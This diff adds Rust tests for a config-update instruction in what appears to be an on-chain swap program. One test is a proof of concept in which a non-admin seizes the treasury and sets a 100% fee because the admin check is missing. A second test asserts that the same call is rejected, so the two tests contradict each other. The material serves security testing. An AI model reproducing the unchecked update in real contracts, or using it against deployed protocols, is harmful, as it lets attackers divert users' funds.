@@ -0,0 +1,83 @@
+#[tokio::test]
+async fn test_config_takeover_exploit() {
+    println!("\n=== EXPLOIT: Anyone Rewrites The Global Config ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let config = initialize_config(&admin, 30).await;
+    println!("1. Config: fee 30 bps, treasury = protocol");
+
+    println!("\n2. Mallory calls update_config");
+    let result = update_config(
+        &config,
+        &mallory,
+        ConfigParams {
+            fee_bps: 10_000,
+            treasury: mallory.pubkey(),
+            paused: false,
+        },
+    )
+    .await;
+
+    // Vulnerable: admin never checked
+    assert!(result.is_ok());
+    let state = get_config(&config).await;
+    assert_eq!(state.treasury, mallory.pubkey());
+    assert_eq!(state.fee_bps, 10_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 100% of every swap now goes to Mallory");
+}
+
+#[tokio::test]
+async fn test_admin_required() {
+    println!("\n=== SECURITY: Admin Signature Required ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let config = initialize_config(&admin, 30).await;
+    let params = ConfigParams {
+        fee_bps: 50,
+        treasury: mallory.pubkey(),
+        paused: false,
+    };
+
+    println!("1. Mallory signs as admin");
+    let result = update_config(&config, &mallory, params.clone()).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: Unauthorized");
+
+    println!("\n2. Admin key passed without its signature");
+    let result = update_config_unsigned(&config, &admin.pubkey(), &mallory, params).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: signature missing");
+
+    println!("\n3. Admin raises fee above the cap");
+    let result = update_config(
+        &config,
+        &admin,
+        ConfigParams {
+            fee_bps: 10_000,
+            treasury: admin.pubkey(),
+            paused: false,
+        },
+    )
+    .await;
+    assert!(result.is_err());
+    println!("   ✓ Error: FeeTooHigh");
+
+    println!("\n4. Admin sets fee to 50 bps");
+    update_config(
+        &config,
+        &admin,
+        ConfigParams {
+            fee_bps: 50,
+            treasury: admin.pubkey(),
+            paused: false,
+        },
+    )
+    .await
+    .unwrap();
+    assert_eq!(get_config(&config).await.fee_bps, 50);
+    println!("   ✓ Update accepted");
+}